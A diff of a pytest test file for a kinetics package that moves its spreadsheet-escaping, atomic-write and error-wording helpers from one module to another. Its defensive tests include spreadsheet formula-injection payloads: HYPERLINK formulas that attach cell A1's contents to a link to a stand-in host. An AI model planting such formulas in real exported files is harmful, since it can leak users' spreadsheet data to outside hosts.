@@ -27,9 +27,10 @@ from hypothesis import given
 from hypothesis import strategies as st
 
 import kinetics
-from kinetics import export
+from kinetics import files
 from kinetics.cli import main
 from kinetics.errors import OutputFileError, UsageError
+from kinetics.output import export
 from kinetics.sweep import chunk_result, make_plan
 from kinetics.sweep import store as sweep_store
 
@@ -73,22 +74,22 @@ TRIGGERS = ["=", "+", "-", "@", "\t", "\r", "＝", "＋", "－", "＠", " =", "\
 @pytest.mark.parametrize("start", TRIGGERS)
 def test_text_that_starts_a_formula_gets_an_apostrophe(start):
     text = start + 'HYPERLINK("http://example.invalid/?"&A1,"open")'
-    assert export.spreadsheet_text(text) == "'" + text
+    assert files.spreadsheet_text(text) == "'" + text
 
 
 @pytest.mark.parametrize("text", ["B [mol/L]", "k1", "", "'=already quoted", "a=b", "0.5"])
 def test_plain_text_is_unchanged(text):
-    assert export.spreadsheet_text(text) == text
+    assert files.spreadsheet_text(text) == text
 
 
 @given(st.text(max_size=40))
 def test_no_neutralised_text_starts_a_formula(text):
-    out = export.spreadsheet_text(text)
+    out = files.spreadsheet_text(text)
     # idempotent, and either unchanged or the original behind one apostrophe
-    assert export.spreadsheet_text(out) == out
+    assert files.spreadsheet_text(out) == out
     assert out in (text, "'" + text)
-    assert out[:1] not in export.FORMULA_TRIGGERS
-    assert out.lstrip()[:1] not in export.FORMULA_TRIGGERS or out.startswith("'")
+    assert out[:1] not in files.FORMULA_TRIGGERS
+    assert out.lstrip()[:1] not in files.FORMULA_TRIGGERS or out.startswith("'")
 
 
 HYPERLINK = '=HYPERLINK("http://example.invalid/?q="&A1,"click")'
@@ -324,7 +325,7 @@ def small_disk(monkeypatch):
     """
     resource = pytest.importorskip("resource")
     original = resource.getrlimit(resource.RLIMIT_FSIZE)
-    real = export.atomic_path
+    real = files.atomic_path
     state = {"limit": None, "open": 0}
 
     @contextlib.contextmanager
@@ -340,7 +341,7 @@ def small_disk(monkeypatch):
                 if not state["open"]:
                     resource.setrlimit(resource.RLIMIT_FSIZE, original)
 
-    monkeypatch.setattr(export, "atomic_path", limited)
+    monkeypatch.setattr(files, "atomic_path", limited)
     monkeypatch.setattr(sweep_store, "atomic_path", limited)
     yield lambda n: state.update(limit=n)
     resource.setrlimit(resource.RLIMIT_FSIZE, original)
@@ -445,12 +446,12 @@ def test_enospc_is_worded_with_the_file_and_what_to_do(folder, capsys, monkeypat
 def test_errno_in_the_text_of_a_library_error_is_read():
     # pyarrow reports "Error writing bytes to file. Detail: [errno 28] No space left on device"
     exc = OSError("Error writing bytes to file. Detail: [errno 28] No space left on device")
-    assert str(export.output_error(exc, "t.parquet")) == (
+    assert str(files.output_error(exc, "t.parquet")) == (
         "t.parquet: not written (No space left on device); free some space or write to "
         "another disk; no partial file was left behind"
     )
     denied = OSError(errno.EACCES, "Permission denied")
-    assert str(export.output_error(denied, "t.csv", "nothing else changed")) == (
+    assert str(files.output_error(denied, "t.csv", "nothing else changed")) == (
         "t.csv: not written (Permission denied); write to a folder you may write to; "
         "nothing else changed"
     )
@@ -680,7 +681,7 @@ def test_sigterm_in_process_exits_143_and_leaves_no_file(folder, capsys, monkeyp
     real = export.write_csv
 
     def killed(frame, path):
-        with export.atomic_path(path) as tmp:
+        with files.atomic_path(path) as tmp:
             tmp.write_text("time [min],A [mol/L]\n0,", encoding="utf-8")
             os.kill(os.getpid(), signal.SIGTERM)
             time.sleep(5)  # the handler interrupts the sleep
@@ -737,7 +738,7 @@ def test_a_closed_pipe_ends_quietly(folder, extra):
 
 
 def test_progress_shows_the_remaining_time_on_a_terminal(monkeypatch, capsys):
-    from kinetics.terminal import progress
+    from kinetics.cli.terminal import progress
 
     monkeypatch.setenv("FORCE_COLOR", "1")
     monkeypatch.setenv("COLUMNS", "100")
